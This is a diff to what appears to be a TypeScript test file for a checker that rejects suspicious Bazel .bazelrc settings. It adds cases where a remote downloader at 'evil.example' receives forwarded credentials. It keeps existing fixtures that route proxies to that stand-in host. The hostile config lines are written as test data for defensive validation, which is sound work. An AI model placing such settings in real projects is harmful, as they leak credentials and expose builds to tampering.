@@ -77,6 +77,14 @@ test.each<[string, Record<string, string>]>([
   ["a proxy of Java's", { ".bazelrc": "startup --host_jvm_args=-Dhttps.proxyHost=evil.example" }],
   ["a proxy of downloads", { ".bazelrc": "common --repo_env=HTTPS_PROXY=http://evil.example" }],
   ["a proxy of the cache", { ".bazelrc": "build --remote_proxy=unix:/tmp/evil" }],
+  [
+    "a downloader that gets credentials",
+    { ".bazelrc": "common --remote_downloader=grpcs://evil.example --remote_downloader_propagate_credentials" },
+  ],
+  [
+    "the same by its former name",
+    { ".bazelrc": "build --experimental_remote_downloader_propagate_credentials=true\n" },
+  ],
   ["an import", { ".bazelrc": "try-import %workspace%/a/b.rc", "a/b.rc": "common --repo_env https_proxy=x" }],
   ["an import of an import", { ".bazelrc": "import a", a: "import b", b: "build --remote_proxy=unix:x" }],
   [
@@ -94,6 +102,7 @@ test.each<[string, Record<string, string>]>([
 test.each<[string, Record<string, string>]>([
   ["no .bazelrc", {}],
   ["an honest one", { ".bazelrc": "startup --host_jvm_args=-Xmx4g\nbuild --jobs=4\n# --remote_proxy=unix:x\n" }],
+  ["a downloader without credentials", { ".bazelrc": "build --remote_downloader_propagate_credentials=false\n" }],
   ["an import that is not there", { ".bazelrc": "try-import %workspace%/user.bazelrc" }],
   ["imports in a circle", { ".bazelrc": "import a", a: "import .bazelrc" }],
 ])("a workspace with %s passes", (_, files) => {
